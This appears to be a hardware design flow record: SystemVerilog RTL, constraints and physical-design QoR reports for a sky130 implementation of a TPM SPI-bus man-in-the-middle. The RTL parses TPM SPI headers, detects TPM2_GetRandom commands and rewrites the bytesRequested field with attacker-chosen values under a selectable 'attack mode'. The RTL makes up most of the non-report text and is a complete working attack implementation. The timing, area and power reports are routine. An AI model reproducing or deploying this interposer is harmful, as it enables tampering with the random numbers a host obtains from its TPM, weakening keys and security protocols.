--- config.mk ---
export PLATFORM = sky130hd
export DESIGN_NAME = tpm_get_random_cmd_mitm
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/tpm_mitm_pkg.sv /design/src/rtl/tpm_spi_header_parser.sv /design/src/rtl/tpm_get_random_cmd_mitm.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export ABC_AREA = 1
export CAP_MARGIN = 20
export CORE_MARGIN = 4
export CORE_UTILIZATION = 60
export DETAILED_ROUTE_END_ITERATION = 16
export PLACE_DENSITY = 0.91
export REMOVE_ABC_BUFFERS = 1
export SLEW_MARGIN = 10
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
--- constraint.sdc ---
create_clock -name sys_clk -period 4.1 [get_ports sys_clk]
set_input_delay 0.615 -clock sys_clk [delete_from_list [all_inputs] [get_ports sys_clk]]
set_output_delay 0.615 -clock sys_clk [all_outputs]
set_load 0.05 [all_outputs]
--- src/rtl/tpm_mitm_pkg.sv ---
// rtl/tpm_mitm_pkg.sv - shared constants, state type and address match for the GetRandom MITM
// Optional feature macro: TPM_CMD_MITM_FULL_ADDR_EN (match the full 24-bit locality-0 address).
package tpm_mitm_pkg;

  localparam logic [3:0] MODE_FORWARD    = 4'b0001;
  localparam logic [3:0] MODE_FORCE_ZERO = 4'b0010;
  localparam logic [3:0] MODE_FORCE_ONE  = 4'b0100;
  localparam logic [3:0] MODE_FORCE_MAX  = 4'b1000;

  localparam logic [15:0] TPM_ST_NO_SESSIONS = 16'h8001;
  localparam logic [31:0] TPM_CC_GET_RANDOM  = 32'h0000017B;

  localparam logic [7:0]  FIFO_OFFSET = 8'h24;
  localparam logic [7:0]  STS_OFFSET  = 8'h18;
  localparam logic [23:0] FIFO_ADDR   = {16'hD400, FIFO_OFFSET};
  localparam logic [23:0] STS_ADDR    = {16'hD400, STS_OFFSET};
  localparam int          STS_COMMAND_READY_BIT = 6;

  typedef enum logic [2:0] {
    ST_HDR,
    ST_WAIT,
    ST_FORK,
    ST_DATA,
    ST_IGNORE,
    ST_FAKE_START,
    ST_FAKE_WAIT
  } state_t;

  // Register match: either the exact locality-0 address or just the offset
  // within whatever locality the host addressed.
  function automatic logic addr_match(input logic [23:0] addr, input logic [23:0] target);
`ifdef TPM_CMD_MITM_FULL_ADDR_EN
    return addr == target;
`else
    return addr[7:0] == target[7:0];
`endif
  endfunction

endpackage

--- src/rtl/tpm_spi_header_parser.sv ---
// rtl/tpm_spi_header_parser.sv - collects the 4-byte TPM SPI header and its wait states
// Ports: clk/rst_n; enable (top is in HDR/WAIT); mosi_valid/mosi_data/miso_data byte pair;
//        hdr_valid (pulse, header done and no more wait), wait_enter (pulse, TPM inserted
//        wait), is_read, rw_size (1..64), addr (24-bit).
module tpm_spi_header_parser
  import tpm_mitm_pkg::*;
(
  input  logic        clk,
  input  logic        rst_n,
  input  logic        enable,
  input  logic        mosi_valid,
  input  logic [7:0]  mosi_data,
  input  logic [7:0]  miso_data,
  output logic        hdr_valid,
  output logic        wait_enter,
  output logic        is_read,
  output logic [6:0]  rw_size,
  output logic [23:0] addr
);

  logic [1:0] idx;
  logic       waiting;
  logic       take;
  logic       unused_bits;

  assign take        = enable && mosi_valid;
  // Combinational so the top leaves HDR/WAIT on the very edge that consumes
  // the last header pair; the first data byte is never mistaken for a header.
  assign hdr_valid   = take && miso_data[0] && (waiting || idx == 2'd3);
  assign wait_enter  = take && !waiting && idx == 2'd3 && !miso_data[0];
  assign unused_bits = ^{mosi_data[6], miso_data[7:1]};

  always_ff @(posedge clk or negedge rst_n) begin
    if (!rst_n) begin
      idx     <= 2'd0;
      waiting <= 1'b0;
      is_read <= 1'b0;
      rw_size <= 7'd0;
      addr    <= 24'd0;
    end else if (take) begin
      if (waiting) begin
        if (miso_data[0]) waiting <= 1'b0;
      end else begin
        case (idx)
          2'd0: begin
            is_read <= mosi_data[7];
            rw_size <= {1'b0, mosi_data[5:0]} + 7'd1;
          end
          2'd1: addr[23:16] <= mosi_data;
          2'd2: addr[15:8]  <= mosi_data;
          default: begin
            addr[7:0] <= mosi_data;
            waiting   <= !miso_data[0];
          end
        endcase
        idx <= idx + 2'd1;
      end
    end
  end

endmodule

--- src/rtl/tpm_get_random_cmd_mitm.sv ---
// rtl/tpm_get_random_cmd_mitm.sv - rewrites TPM2_GetRandom bytesRequested on the TPM-facing bus
// Ports: sys_clk/rst_n (async, active-low); mode_select one-hot attack mode;
//        if0/if1_recv_new_data + real_if0/if1_recv_data received host/TPM bytes;
//        fake_if1_send_ready/done from the TPM-facing sender; fake_if1_select/send_start/
//        send_data drive the substitution; fake_if0_* and keep_alive tied low;
//        mitm_hit pulses once both bytesRequested bytes were replaced.
// Optional feature macro: TPM_CMD_MITM_FULL_ADDR_EN (see tpm_mitm_pkg::addr_match).
module tpm_get_random_cmd_mitm
  import tpm_mitm_pkg::*;
#(
  parameter int NUM_DATA_BITS  = 8,
  parameter int NUM_MITM_MODES = 4
) (
  input  logic                      sys_clk,
  input  logic                      rst_n,
  input  logic [NUM_MITM_MODES-1:0] mode_select,
  input  logic                      if0_recv_new_data,
  input  logic                      if1_recv_new_data,
  input  logic [NUM_DATA_BITS-1:0]  real_if0_recv_data,
  input  logic [NUM_DATA_BITS-1:0]  real_if1_recv_data,
  input  logic                      fake_if1_send_ready,
  input  logic                      fake_if1_send_done,
  output logic                      fake_if0_select,
  output logic                      fake_if1_select,
  output logic                      fake_if0_send_start,
  output logic                      fake_if1_send_start,
  output logic                      fake_if0_keep_alive,
  output logic                      fake_if1_keep_alive,
  output logic [NUM_DATA_BITS-1:0]  fake_if0_send_data,
  output logic [NUM_DATA_BITS-1:0]  fake_if1_send_data,
  output logic                      mitm_hit
);

  state_t      state;
  logic [15:0] cmd_ctr;
  logic [15:0] tag;
  logic [31:0] cmd_size;
  logic [31:0] cmd_code;
  logic [6:0]  rw_size;
  logic [3:0]  mode;
  logic        disarmed;
  logic        sts_pending;

  logic        hdr_valid;
  logic        wait_enter;
  logic        hdr_is_read;
  logic [6:0]  hdr_rw_size;
  logic [23:0] hdr_addr;

  logic [15:0] ctr_inc;
  logic [15:0] ctr_next;
  logic        at_param;
  logic        armed;
  logic [7:0]  fake_byte;
  logic        unused_in;

  assign fake_if0_select     = 1'b0;
  assign fake_if0_send_start = 1'b0;
  assign fake_if0_keep_alive = 1'b0;
  assign fake_if1_keep_alive = 1'b0;
  assign fake_if0_send_data  = '0;
  assign unused_in           = if1_recv_new_data;

  tpm_spi_header_parser u_hdr (
    .clk        (sys_clk),
    .rst_n      (rst_n),
    .enable     (state == ST_HDR || state == ST_WAIT),
    .mosi_valid (if0_recv_new_data),
    .mosi_data  (real_if0_recv_data),
    .miso_data  (real_if1_recv_data),
    .hdr_valid  (hdr_valid),
    .wait_enter (wait_enter),
    .is_read    (hdr_is_read),
    .rw_size    (hdr_rw_size),
    .addr       (hdr_addr)
  );

  // commandSize is only fully captured from byte 6 on, so the end check waits for that.
  assign ctr_inc  = cmd_ctr + 16'd1;
  assign ctr_next = (cmd_ctr >= 16'd6 && {16'd0, ctr_inc} == cmd_size) ? 16'd0 : ctr_inc;
  assign at_param = (cmd_ctr == 16'd10) || (cmd_ctr == 16'd11);
  assign armed    = (tag == TPM_ST_NO_SESSIONS) && (cmd_code == TPM_CC_GET_RANDOM) &&
                    (mode != MODE_FORWARD) && !disarmed;

  // bytesRequested is big-endian: byte 10 is the high byte, byte 11 the low byte.
  always_comb begin
    fake_byte = 8'h00;
    if (mode == MODE_FORCE_MAX) fake_byte = 8'hFF;
    else if (mode == MODE_FORCE_ONE && cmd_ctr == 16'd11) fake_byte = 8'h01;
  end

  always_ff @(posedge sys_clk or negedge rst_n) begin
    if (!rst_n) begin
      state               <= ST_HDR;
      cmd_ctr             <= 16'd0;
      tag                 <= 16'd0;
      cmd_size            <= 32'd0;
      cmd_code            <= 32'd0;
      rw_size             <= 7'd0;
      mode                <= MODE_FORWARD;
      disarmed            <= 1'b0;
      sts_pending         <= 1'b0;
      fake_if1_select     <= 1'b0;
      fake_if1_send_start <= 1'b0;
      fake_if1_send_data  <= '0;
      mitm_hit            <= 1'b0;
    end else begin
      mitm_hit <= 1'b0;
      case (state)
        ST_HDR, ST_WAIT: begin
          // Mode only changes between commands, never inside one.
          if (state == ST_HDR && cmd_ctr == 16'd0)
            mode <= $onehot(mode_select) ? mode_select : MODE_FORWARD;
          if (hdr_valid)       state <= ST_FORK;
          else if (wait_enter) state <= ST_WAIT;
        end

        ST_FORK: begin
          rw_size <= hdr_rw_size;
          if (!hdr_is_read && addr_match(hdr_addr, FIFO_ADDR)) begin
            state <= ST_DATA;
          end else begin
            sts_pending <= !hdr_is_read && addr_match(hdr_addr, STS_ADDR);
            state       <= ST_IGNORE;
          end
        end

        ST_DATA: begin
          if (if0_recv_new_data) begin
            cmd_ctr <= ctr_next;
            rw_size <= rw_size - 7'd1;
            if (cmd_ctr <= 16'd1)      tag      <= {tag[7:0], real_if0_recv_data};
            else if (cmd_ctr <= 16'd5) cmd_size <= {cmd_size[23:0], real_if0_recv_data};
            else if (cmd_ctr <= 16'd9) cmd_code <= {cmd_code[23:0], real_if0_recv_data};
            // The sender was not ready in time: this byte went out unmodified,
            // so a half-rewritten bytesRequested must not follow.
            if (armed && at_param) disarmed <= 1'b1;
            if (ctr_next == 16'd0) disarmed <= 1'b0;
            if (rw_size <= 7'd1) begin
              fake_if1_select <= 1'b0;
              state           <= ST_HDR;
            end
          end else if (rw_size == 7'd0) begin
            fake_if1_select <= 1'b0;
            state           <= ST_HDR;
          end else if (armed && at_param && fake_if1_send_ready) begin
            fake_if1_send_data  <= fake_byte;
            fake_if1_select     <= 1'b1;
            fake_if1_send_start <= 1'b1;
            state               <= ST_FAKE_START;
          end
        end

        ST_FAKE_START: begin
          fake_if1_send_start <= 1'b0;
          state               <= ST_FAKE_WAIT;
        end

        ST_FAKE_WAIT: begin
          if (fake_if1_send_done) begin
            cmd_ctr <= ctr_next;
            rw_size <= rw_size - 7'd1;
            if (cmd_ctr == 16'd11) mitm_hit <= 1'b1;
            if (ctr_next == 16'd0) disarmed <= 1'b0;
            state <= ST_DATA;
          end
        end

        ST_IGNORE: begin
          if (if0_recv_new_data) begin
            rw_size     <= rw_size - 7'd1;
            sts_pending <= 1'b0;
            // commandReady aborts any partially written command.
            if (sts_pending && real_if0_recv_data[STS_COMMAND_READY_BIT]) begin
              cmd_ctr  <= 16'd0;
              disarmed <= 1'b0;
            end
            if (rw_size <= 7'd1) state <= ST_HDR;
          end
        end

        default: state <= ST_HDR;
      endcase
    end
  end

endmodule

==> reports/qor.yml <==
sta:
  skew_ns: 0.0116
  clock.fmax_mhz: 336
  setup_viol: 0
  tightest_slew_ns: 0.863
  fin_tns_setup_ns: 0
  rsz0062_at_grt: "no"
  layout_min_cycle_time_ns: 2.98
  hold_viol_final: 0
  post-route-period-util_pct: 72.7
  fin_hold_ws_ns: 0.251
  drv_slew: 0
  relSlewSlack_pct: 42.3
  layout_setup_ws_ns: 1.12
die:
  dieArea_um2: 13600
  die_h_um: 117
  io_pins: 49
  die_x_um: 117
  row_count: 39
  core_area_um2: 11500
  start_util_pct: 61.7
drt:
  final_antenna_net_count: 0
  vias: 5895
  drt_pre_antenna_iters: 5
  avgViaCountPerCell: 5.74
  drt-initial-drc-count: 533
  wl_mm: 16.3
  drt_drc_violations_left: 0
  post_drt_wl_per_cell_um: 15.9
synthesis:
  synth_seq_cells: 136
  synth-seq-area-share_pct: 48.1
  netlist_area_um2: 7070
  synth_warnings: 0
  syn_avg_cell_area_um2: 8.36
  synth.distinct_cells: 45
  netlist_instances: 846
clocking:
  postCtsResizedCells: 0
  cts_tree: "built"
  htree_num_levels: 4
  cts.clk_slew.worst_paths_ns: 0.06
  clockBufferDepth: 2
  holdBufCountCts: 0
  root_buffer: "clkbuf_16"
  cts_buffers: 17
  post_cts_buffers: 0
  cts_sinks: 136
  clk_latency_ns: 0.43
cells_and_area:
  nets: 910
  diodes: 0
  drive_gt1_share_pct: 10.4
  syn_to_final_growth_pct: 12.9
global_route:
  grt_use_total_pct: 25.5
  grt_pass1_vias: 5751
  grt_overflow: 0
  grt_pass1_wl_mm: 27.1
  antenna_found_initial: 0
  grt_max_degree: 87
setup_path:
  cp.required_ns: 4.41
  critical_path.max_fanout: 24
  reg2reg_slack_ns: 1.12
  crit_arrival_ns: 3.29
  start_kind: "register"
  crit_type: "register to register"
  crit_path_end_kind: "register"
power:
  p_total_mw: 4.82
  power_density_nw_per_um2: 604
  vdd_drop_max_mv: 0.542
  p_leak_nw: 3.83
placed_design:
  post-place-ws_ns: 1.17
  dp_hpwl_mm: 11.1
  port_buffers: 28
  routabilityCongestion: 0.920
outcome:
  status: "complete, no violations"
flow_run:
  maxCapViolations: 0
hold_path:
  hp-class: "input pin to async pin"
registers in the layout (all words and copies together) (netlist names), 2 cells and up:
signal and cells:
cmd_code 32, state 3, fake_if1_send_data 2, u_hdr.idx 2, u_hdr.rw_size 7, mode 4, tag 16, cmd_size 32
u_hdr.addr 8, rw_size 7, cmd_ctr 16
report_power, final:
| part | leakage, nW | switching [mW] | internal [mW] |
|---|---|---|---|
| combinational | 1.72 | 0.948 | 0.507 |
| clock | 0.286 | 0.573 | 0.962 |
| sequential | 1.82 | 0.257 | 1.58 |
per-layer routing:
metal  up-vias  GRT usage, %  share of wire [%]
li1       2824             -                  -
met1      2791          31.5                 40
met2       234          43.9                 51
met3        46          5.70                5.7
met4         0          9.79                3.0
met5         -             0                  0
cell usage after synthesis, drive strengths merged:
cell       n  area [µm²]
nor3b      1        7.51
dfrtp    135        3380
a31oi      1        6.26
nand2    198         751
or3        1        6.26
o21ai     94         474
nand4     17         106
nand3b     2        15.0
a22oi      1        7.51
a21oi     15        75.1
o31ai      1        7.51
mux2      33         372
o2111ai    1        8.76
inv       96         360
nor4      18         128
buf       29         201
o211a      1        10.0
o41ai      1        8.76
xor2       7        61.3
ha        12         150
o211ai     3        22.5
o22ai     14        87.6
dfstp      1        26.3
nor2      90         368
nor3       5        35.0
conb       1        3.75
xnor3      2        45.0
xnor2      3        26.3
fa         1        20.0
and3       1        6.26
or4        1        7.51
clkbuf    11        41.3
clkinv     1        3.75
nand3     48         245
per-stage QoR:
step | std cells | utilization [%] | cell area [µm²]
detailed placement | 994 | 64.4 | 7380
floorplan | 817 | - | 6870
CTS | 1026 | 69.6 | 7980
global route | 1027 | 69.7 | 7990
finish | 1027 | 69.7 | 7990
global placement | 994 | 64.4 | 7380
kinds of logic (layout without fill, tap and decap cells):
kind of cell / count (synthesis) / in the layout / share of synthesized area, %
AND/OR/NAND/NOR: 382 / 382 / 23.7
buffers and inverters: 137 / 164 / 8.58
flip-flops: 136 / 136 / 48.1
AO/OA/AOI/OAI: 132 / 132 / 10.0
multiplexers: 33 / 33 / 5.25
adder cells (fa/ha/maj): 13 / 13 / 2.41
XOR/XNOR: 12 / 12 / 1.88
other: 1 / 12 / 0.0530
worst paths after layout:
kind                                           from                            to  depth (start not counted)
hold / removal                                rst_n      cmd_size[25]$_DFFE_PN0P_                          1
min in group sys_clk       cmd_size[26]$_DFFE_PN0P_      cmd_size[26]$_DFFE_PN0P_                          2
setup reg to reg             cmd_ctr[0]$_DFFE_PN0P_          disarmed$_DFFE_PN0P_                         18
setup / recovery             cmd_ctr[0]$_DFFE_PN0P_          disarmed$_DFFE_PN0P_                         18
hold reg to reg            cmd_size[26]$_DFFE_PN0P_      cmd_size[26]$_DFFE_PN0P_                          2
max in group asynchronous                     rst_n  u_hdr.rw_size[6]$_DFFE_PN0P_                          2
critical path: stages (launching register included):
cell and delay (ns):
dfrtp_1 0.53, ha_1 0.32, nand2_1 0.14, nor2_4 0.22, nand2_1 0.08, nand2_1 0.09
nand2_2 0.08, nand2_1 0.06, nand2_1 0.05, nor2_1 0.12, nand3_1 0.08, nor2_1 0.13
nand2_2 0.30, o21ai_0 0.21, nand2_1 0.08, nor2_1 0.15, nand2_1 0.09, nand2_1 0.06
a21oi_1 0.06
area by class of cell:
type	count	area, µm²
Clock buffer	23	488
Clock inverter	9	114
Fill cell	858	3480
Inverter	97	364
Multi-Input combinational cell	584	3110
Sequential cell	136	3400
Tap cell	143	179
Timing Repair Buffer	35	332
cell usage in the layout (no fill, tap or decap), types with 2 or more instances in the layout:
cell / instances
inv_1: 93
nor3_1: 3
mux2_2: 33
nand3_1: 46
dfrtp_1: 135
clkdlybuf4s50_1: 27
clkbuf_8: 4
clkbuf_16: 17
o211ai_1: 3
clkbuf_1: 2
nor3_2: 2
ha_1: 12
nand3_2: 2
a21oi_1: 15
nor2_1: 82
o21ai_0: 91
xnor3_1: 2
o22ai_1: 14
bufinv_16: 2
clkinv_4: 2
nor2_4: 2
clkinvlp_4: 3
nand3b_1: 2
nor2_2: 6
nand2_2: 3
o21ai_1: 2
nand4_1: 17
conb_1: 12
nor4_1: 17
inv_2: 3
xor2_1: 7
nand2_1: 195
xnor2_1: 3
buf_4: 6
(Power assumes the default switching activity.)
